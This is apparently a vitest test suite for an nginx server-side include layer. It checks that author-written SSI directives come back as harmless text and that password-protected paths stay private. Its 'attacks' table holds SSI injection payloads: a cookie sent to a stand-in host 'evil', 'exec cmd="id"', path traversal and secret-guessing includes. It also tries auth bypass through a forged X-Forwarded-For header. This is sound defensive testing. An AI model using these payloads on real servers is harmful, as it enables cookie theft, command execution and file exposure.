import { chmodSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { includeEngines, isInstalled, SECRET } from "./includeEngines";
import { type Attacked, FRAGMENT, startAttacked } from "./startAttacked";

const nginx = includeEngines.find(({ name }) => name === "nginx") as (typeof includeEngines)[number];
const INCLUDE = nginx.include("header");
const UPLOAD = "virtual='/uploads/note.txt'";
const COOKIE = 'echo var="http_cookie"';
const harmless = (html: string) => html.replaceAll("<!--#", "<!-- #");

/** Text that an author may write if a sanitizer keeps the text of attributes and comments. */
const attacks: Record<string, string> = {
  "a cookie in an address": `<img src="http://evil/x?c=<!--# echo var='http_cookie' encoding='url' -->">`,
  "an upload in an attribute": `<p title="<!--# include ${UPLOAD} -->">`,
  "an upload by file": `<!--# include file="/uploads/note.txt" -->`,
  "an upload in a script": `<script>x = '<!--# include ${UPLOAD} -->'</script>`,
  "no space": `<!--#${COOKIE}-->`,
  "tabs and line ends": `<!--#\t\r\n ${COOKIE}\r\n-->`,
  capitals: `<!--# INCLUDE ${UPLOAD} --><!--# Echo var="http_cookie" -->`,
  "a command in a command": `<!--#<!--# ${COOKIE} -->`,
  "starts one after the other": `<!--#<!--#<!--#${COOKIE} --> -->`,
  "a variable that is set": `<!--# set var="a" value="$http_cookie" --><!--# echo var="a" -->`,
  "a condition": `<!--# if expr="$http_cookie = /session/" -->COOKIE<!--# endif -->`,
  "the rest of the page in a block": `<!--# block name="a" --><p>rest</p>`,
  "another message for errors": `<!--# config errmsg="COOKIE" --><!--# nonsense -->`,
  "a program": `<!--# exec cmd="id" -->`,
  "a guessed secret": `<!--# include virtual="/hs-fragments/guess/header" -->`,
  "no secret": `<!--# include virtual="/hs-fragments/header" -->`,
  "the start of a secret": `<!--# include virtual="/hs-fragments/${SECRET.slice(0, -1)}/header" -->`,
  "an address in a variable": `<!--# include virtual="$arg_u" --><!--# include virtual="/hs-fragments/$hs_secret/header" -->`,
  "a way up": `<!--# include virtual="/hs-fragments/guess/../../uploads/note.txt" -->`,
  "the server's own places": `<!--# include virtual="/hs-fetch" --><!--# include virtual="/hs-whole/guess/header" -->`,
  "a stub": `<!--# include virtual="/hs-fragments/guess/header" stub="a" set="b" wait="yes" -->`,
};

/** nginx itself may omit the start of such a tag. */
const beginnings: Record<string, string> = {
  "a start in a start": `<<!<!-<!--<!--# ${COOKIE} -->`,
  "a start at the end": `<p>a</p><!--`,
  "a command that is not ended": `<p>a</p><!--# include virtual="/hs-fragments/`,
};

describe.skipIf(!isInstalled(nginx))("nginx", () => {
  let attacked: Attacked;
  beforeAll(async () => {
    attacked = await startAttacked(nginx);
  });
  afterAll(() => attacked.close());

  describe.each(Object.entries(attacks))("when an author writes %s", (_, attack) => {
    const page = `<p>a</p>${INCLUDE}${attack}${attack}`;
    const shown = `<p>a</p>${FRAGMENT}${harmless(attack + attack)}`;

    it("sends it as text, without another request to the site", async () => {
      const before = attacked.askedElsewhere().length;
      expect(await attacked.through(page)).toBe(shown);
      expect(attacked.askedElsewhere()).toHaveLength(before);
    });

    it("sends it as text when the site sends a few bytes at a time", async () => {
      for (const size of [1, 2, 3, 7, 64]) expect(await attacked.throughParts(page, size)).toBe(shown);
    });
  });

  it.each(Object.entries(beginnings))("runs no command when an author writes %s", async (_, attack) => {
    const page = `<p>a</p>${INCLUDE}${attack}${attack}`;
    const responses = [await attacked.through(page)];
    for (const size of [1, 2, 3, 7, 64]) responses.push(await attacked.throughParts(page, size));
    for (const html of responses) {
      expect(html.split(FRAGMENT)).toHaveLength(2);
      expect(html).not.toMatch(/session|UPLOAD|<!--#/);
    }
  });

  it("processes its include wherever a response is split", async () => {
    const page = `<p>a</p>${INCLUDE}<!--# ${COOKIE} -->`;
    for (let at = 1; at < page.length; at += 3) {
      attacked.site.pages["/divided"] = (_, response) => {
        response.writeHead(200, { "content-type": "text/html" }).write(page.slice(0, at), () => {
          setTimeout(() => response.end(page.slice(at)), 5);
        });
      };
      expect(await attacked.textOf("/divided")).toBe(`<p>a</p>${FRAGMENT}<!-- # ${COOKIE} -->`);
    }
  });

  it("runs no command when a page is longer than its buffers", async () => {
    const filler = "x".repeat(4093);
    const page = Array.from({ length: 100 }, () => `${filler}<!--# ${COOKIE} -->`).join("");
    expect(await attacked.through(page)).toBe(harmless(page));
  });

  it.each(["text/html; charset=utf-8", "TEXT/HTML", "text/html;charset=windows-1252"])(
    "processes only its own include in %s",
    async (type) => {
      const page = `${INCLUDE}<!--# ${COOKIE} -->`;
      expect(await attacked.through(page, { "content-type": type })).toBe(`${FRAGMENT}<!-- # ${COOKIE} -->`);
    },
  );

  it.each(["application/xhtml+xml", "text/plain", "image/svg+xml", "application/json"])(
    "runs no command in %s",
    async (type) => {
      const page = `<!--# ${COOKIE} -->`;
      expect(await attacked.through(page, { "content-type": type })).toBe(page);
    },
  );

  it("runs no command in a page that the site compresses without Accept-Encoding", async () => {
    const page = `<!--# ${COOKIE} -->`;
    // Level 0 stores the text unchanged.
    attacked.site.page("/gzip", gzipSync(page, { level: 0 }), { "content-encoding": "gzip" });
    const response = await fetch(`http://127.0.0.1:${attacked.port}/gzip`, {
      headers: { cookie: "session=COOKIE" },
    });
    await expect(response.text().catch(() => "broken")).resolves.not.toContain("COOKIE");
  });

  it("runs no command in a response to POST or with an error status", async () => {
    attacked.site.page("/page", `${INCLUDE}<!--# ${COOKIE} -->`, {}, 404);
    const response = await fetch(`http://127.0.0.1:${attacked.port}/page`, { method: "POST", body: "a" });
    expect([response.status, await response.text()]).toEqual([404, `${FRAGMENT}<!-- # ${COOKIE} -->`]);
  });

  it("never sends the secret in a page, even when a template writes the include differently", async () => {
    const page = `<!--#include virtual="/hs-fragments/${SECRET}/header" --><a href="/hs-fragments/${SECRET}/header">`;
    expect(await attacked.through(page)).not.toContain(SECRET);
  });

  it("shows nothing and sends no request for an include with an invalid name", async () => {
    for (const name of ["a b", "a/b", "", "%68eader%00", "../header", "$http_cookie"]) {
      const before = [attacked.serve.asked.length, attacked.askedElsewhere().length];
      expect(await attacked.through(`<p>a</p>${nginx.include(name)}<p>b</p>`)).toBe("<p>a</p><p>b</p>");
      expect([attacked.serve.asked.length, attacked.askedElsewhere().length]).toEqual(before);
    }
  });

  it("does not cache an element without prerendered content next to a fragment of the same page", async () => {
    attacked.serve.page("/bare-one", "<hs-search></hs-search>", { "hs-fragment": "bare" });
    attacked.serve.page("/whole-one", "<p>whole</p>", { "hs-fragment": "fresh" });
    const page = nginx.include("whole-one") + nginx.include("bare-one") + nginx.include("whole-one");
    expect(await attacked.through(page)).toContain("<hs-search></hs-search>");
    attacked.serve.page("/bare-one", "<p>filled</p>", { "hs-fragment": "fresh" });
    await expect.poll(() => attacked.through(page), { timeout: 5000 }).toContain("filled");
  });
});

describe.skipIf(!isInstalled(nginx))("nginx with a password for the whole site", () => {
  const authorization = `Basic ${Buffer.from("ada:pass").toString("base64")}`;
  let attacked: Attacked;
  beforeAll(async () => {
    const folder = mkdtempSync(join(tmpdir(), "hs-password-"));
    chmodSync(folder, 0o755);
    const file = join(folder, "users");
    writeFileSync(file, "ada:{PLAIN}pass\n");
    attacked = await startAttacked(nginx, {
      directives: `auth_basic site; auth_basic_user_file ${file}; set_real_ip_from 127.0.0.0/8; real_ip_header X-Forwarded-For;`,
    });
    attacked.site.page("/private", "PRIVATE");
  });
  afterAll(() => attacked.close());

  it("fills pages and passes byte ranges for visitors with the password", async () => {
    attacked.site.page("/page", `<p>a</p>${INCLUDE}`);
    expect(await attacked.textOf("/page", { authorization })).toBe(`<p>a</p>${FRAGMENT}`);
    attacked.site.pages["/film"] = ({ headers }, response) => {
      response.writeHead(206, { "content-type": "video/mp4", "content-range": "bytes 0-1/9" });
      response.end(headers.range);
    };
    const range = "bytes=0-1";
    expect(await attacked.textOf("/film", { authorization, range })).toBe(range);
  });

  it.each(["/private", `/hs-part/${SECRET}/private`, `/%68s-part/${SECRET}/private`])(
    "does not send %s to visitors without it",
    async (path) => {
      for (const headers of [{}, { range: "bytes=0-3" }, { "x-forwarded-for": "127.0.83.1" }] as Record<
        string,
        string
      >[]) {
        const response = await attacked.ask(path, headers);
        expect([401, 404]).toContain(response.status);
        expect(await response.text()).not.toContain("PRIVATE");
      }
    },
  );
});
